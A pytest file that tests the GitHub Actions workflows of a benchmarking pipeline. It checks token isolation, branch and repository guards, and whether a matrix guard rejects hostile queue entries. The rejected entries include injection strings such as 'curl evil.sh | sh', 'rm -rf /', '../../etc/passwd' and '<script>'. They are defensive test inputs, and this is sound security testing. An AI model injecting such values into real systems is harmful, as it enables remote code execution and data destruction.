"""warm-check.yml (issue 32): a GitHub-hosted queue with no token, the checks on the trn2 runners as benchmark.yml's
own jobs (`mode: warm` entries, behind its guard), and the GitHub-hosted publish that alone holds the Hub token. The
guard steps (warm-check.yml's and benchmark.yml's) run here on what `trncat warm-queue` writes and on hostile
entries."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from pipeline.queue import warm_queue
from pipeline.records import flatten
from tests.expressions import holds
from tests.support.records import sample_record
from tests.test_workflows import WARM, _context, is_self_hosted, jobs, load, runs_on_labels, step, triggers
from tests.warm_rows import with_bundle


def test_three_jobs_the_checks_on_benchmark_yml_and_the_token_in_one_step() -> None:
    assert triggers(WARM) == {"schedule", "workflow_dispatch"} and load(WARM)["permissions"] == {}
    queue, check, publish = (jobs(WARM)[j] for j in ("queue", "check", "publish"))
    assert runs_on_labels(queue) == ["ubuntu-24.04"] and runs_on_labels(publish) == ["ubuntu-24.04"]
    # The checks are benchmark.yml's jobs: the trn2 runner group admits that file's jobs alone (runners/README.md).
    assert check["uses"].split()[0] == "./.github/workflows/benchmark.yml" and not is_self_hosted(check)
    assert check["with"] == {"matrix": "${{ needs.queue.outputs.matrix }}", "chunk": 0}
    assert holds(check["if"], {"needs": {"queue": {"outputs": {"count": "3"}}}})
    assert not holds(check["if"], {"needs": {"queue": {"outputs": {"count": "0"}}}})
    for job in (queue, check):
        assert job["permissions"] == {"contents": "read"} and "environment" not in job
        assert "secrets" not in json.dumps(job) and "HF_TOKEN" not in json.dumps(job)
    assert publish["environment"] == "hub-publish" and publish["permissions"] == {"contents": "read"}
    assert check["needs"] == "queue" and publish["needs"] == ["queue", "check"]
    # The publish step alone holds the token, and only a real (not dry) run reaches it.
    assert step(WARM, "publish", "publish")["if"] == "${{ !inputs.dry_run }}"
    plan = step(WARM, "publish", "plan")
    assert "--dry-run" in plan["run"] and "secrets." not in json.dumps(plan)


def test_benchmark_yml_admits_warm_check_yml_on_main_only() -> None:
    for job_id, job in jobs("benchmark").items():
        guard = job["if"]
        for event in ("schedule", "workflow_dispatch"):
            assert holds(guard, _context(event, "refs/heads/main", "warm-check.yml")), job_id
            assert not holds(guard, _context(event, "refs/heads/pwn", "warm-check.yml")), job_id
            other = _context(event, "refs/heads/main", "warm-check.yml", repository="evil/trncat")
            assert not holds(guard, other), job_id
        assert not holds(guard, _context("pull_request", "refs/pull/7/merge", "warm-check.yml")), job_id


def test_a_warm_entry_runs_warm_check_strictly_and_uploads_what_the_publish_downloads() -> None:
    warm = {"matrix": {"mode": "warm"}}
    run = step("benchmark", "bench", "warm-check")
    assert holds(run["if"], warm) and not holds(run["if"], {"matrix": {}})
    assert (
        'trncat warm-check "queue-warm/records/${ARTIFACT}.json" --model "${MODEL_ID}" --sha256 "${SHA256}"'
        in run["run"]
    )
    assert set(run["env"]) == {"MODEL_ID", "SHA256", "ARTIFACT"}
    steps = jobs("benchmark")["bench"]["steps"]
    # A warm entry runs neither the bench nor the serve step, validates no record and uploads none.
    for step_id in ("bench", "serve", "validate"):
        assert not holds(step("benchmark", "bench", step_id)["if"], warm), step_id
    by_name = {s["name"]: s for s in steps}
    assert not holds(by_name["upload the record"]["if"], warm) and holds(
        by_name["upload the record"]["if"], {"matrix": {}}
    )
    upload = by_name["upload the warm check"]
    assert holds(upload["if"], warm) and not holds(upload["if"], {"matrix": {}})
    assert upload["with"]["name"] == "warm-${{ matrix.artifact }}" and upload["with"]["path"] == "warm/"
    assert by_name["download the warm-check queue"]["with"] == {"name": "queue-warm", "path": "queue-warm/"}
    downloads = [s["with"] for s in jobs(WARM)["publish"]["steps"] if "download-artifact" in s.get("uses", "")]
    assert {"name": "queue-warm", "path": "queue-warm/"} in downloads
    assert {"pattern": "warm-*", "path": "artifacts/warm/"} in downloads
    # The queue's artifact is not a warm-* one: the publish never takes it for a check.
    (queue_upload,) = [s for s in jobs(WARM)["queue"]["steps"] if "upload-artifact" in s.get("uses", "")]
    assert queue_upload["with"]["name"] == "queue-warm"
    # Every matrix key the bench job reads for a warm entry is one the queue emits.
    job = dict(jobs("benchmark")["bench"])
    job["steps"] = [s for s in steps if s.get("id") not in ("bench", "serve")]
    used = set(re.findall(r"(?<![\w.])matrix\.(\w+)", json.dumps(job)))
    entry = _queue_file_entries()[0]
    assert used <= set(entry), used - set(entry)


def _queue_file_entries() -> list[dict[str, Any]]:
    rows = [flatten(with_bundle(sample_record(model_id=f"acme/m{i}", cores=c), f"{i + 1:064x}"))
            for i, c in enumerate((1, 8))]  # fmt: skip
    return warm_queue(rows, []).to_dict()["include"]


def _matrix_step(tmp_path: Path, queue: Any) -> subprocess.CompletedProcess[str]:
    (tmp_path / "queue-warm").mkdir(exist_ok=True)
    text = queue if isinstance(queue, str) else json.dumps(queue)
    (tmp_path / "queue-warm" / "warm-queue.json").write_text(text)
    env = {"PATH": os.environ["PATH"], "GITHUB_OUTPUT": str(tmp_path / "out"), "GITHUB_STEP_SUMMARY": os.devnull}
    (tmp_path / "out").write_text("")
    script = step(WARM, "queue", "matrix")["run"]
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)  # fmt: skip


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
def test_the_matrix_guard_accepts_the_queue_and_refuses_hostile_entries(tmp_path: Path) -> None:
    entries = _queue_file_entries()
    done = _matrix_step(tmp_path, {"include": entries, "count": 2, "skipped": []})
    assert done.returncode == 0, done.stdout + done.stderr
    outputs = dict(line.split("=", 1) for line in (tmp_path / "out").read_text().splitlines())
    assert json.loads(outputs["matrix"]) == {"include": entries} and outputs["count"] == "2"
    assert {e["runner"] for e in entries} == {"trn2-1c", "trn2-8c"}
    assert _matrix_step(tmp_path, {"include": []}).returncode == 0  # nothing to check: the check job is skipped
    good = entries[0]
    for bad in (
        {"model_id": "org/m; curl evil.sh | sh"},
        {"model_id": "org/m\n"},
        {"model_id": "../../etc/passwd"},
        {"revision": "main"},
        {"sha256": "f" * 63},
        {"sha256": "F" * 64},
        {"sha256": "f" * 64 + "\n"},
        {"runner": "ubuntu-latest"},
        {"runner": "trn3-1c"},
        {"runner": "trn2-1c\n"},
        {"cores": "1 --device cpu"},
        {"artifact": "../../x"},
        {"made_by": "runner; rm -rf /"},
        {"task": "<script>"},
        {"mode": "bench"},
        {"dtype": "float64"},
    ):
        result = _matrix_step(tmp_path, {"include": [good | bad]})
        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad
    assert _matrix_step(tmp_path, {"include": [good] * 257}).returncode == 1
    assert _matrix_step(tmp_path, "not json").returncode == 1


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
def test_benchmark_yml_matrix_guard_accepts_warm_entries_and_refuses_hostile_ones() -> None:
    from tests.test_workflows import _matrix_step as benchmark_matrix_step

    entries = _queue_file_entries()
    assert benchmark_matrix_step(json.dumps({"include": entries})).returncode == 0
    for bad in ({"sha256": "f" * 63}, {"sha256": None}, {"made_by": "a b"}, {"mode": "warm\n"}, {"mode": "check"}):
        result = benchmark_matrix_step(json.dumps({"include": [entries[0] | bad]}))
        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad


def test_the_jobs_without_a_runner_of_ours_install_only_the_hash_pinned_lock() -> None:
    for job in ("queue", "publish"):
        install = next(s for s in jobs(WARM)[job]["steps"] if s.get("name") == "install")["run"]
        pip_lines = [line.strip() for line in install.splitlines() if "pip install" in line]
        assert pip_lines == [
            "python -m pip install --quiet --require-hashes --no-deps -r .github/publish-requirements.txt",
            "python -m pip install --quiet --no-deps --no-build-isolation .",
        ], job
